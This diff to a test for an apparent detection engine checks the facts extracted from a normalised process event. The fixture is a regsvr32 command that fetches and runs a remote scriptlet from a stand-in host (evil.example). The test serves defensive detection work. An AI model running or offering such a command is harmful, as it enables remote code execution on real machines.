@@ -221,7 +221,9 @@ def test_column_table_drives_header_folding_and_facts():
     event = normalize(proc("regsvr32 /s /i:http://Evil.example/a.sct C:/Users/Public/A.DLL"))
     facts = Facts(event)
     assert set(FOLD) == set(MATCHERS)
-    assert [facts.get(c) for c in MATCHERS] == [
-        ("c:\\windows\\system32\\regsvr32.exe",), ("c:\\windows\\system32\\cmd.exe",),
-        ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
-        ("c:\\users\\public\\a.dll",), ("evil.example",), (), (), (), ("corp\\alice",), ("ws01",)]
+    assert dict((c, facts.get(c)) for c in MATCHERS if facts.get(c)) == {
+        "image": ("c:\\windows\\system32\\regsvr32.exe",),
+        "parent_image": ("c:\\windows\\system32\\cmd.exe",),
+        "command_line": ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
+        "module": ("c:\\users\\public\\a.dll",), "url_host": ("evil.example",),
+        "user": ("corp\\alice",), "host": ("ws01",)}
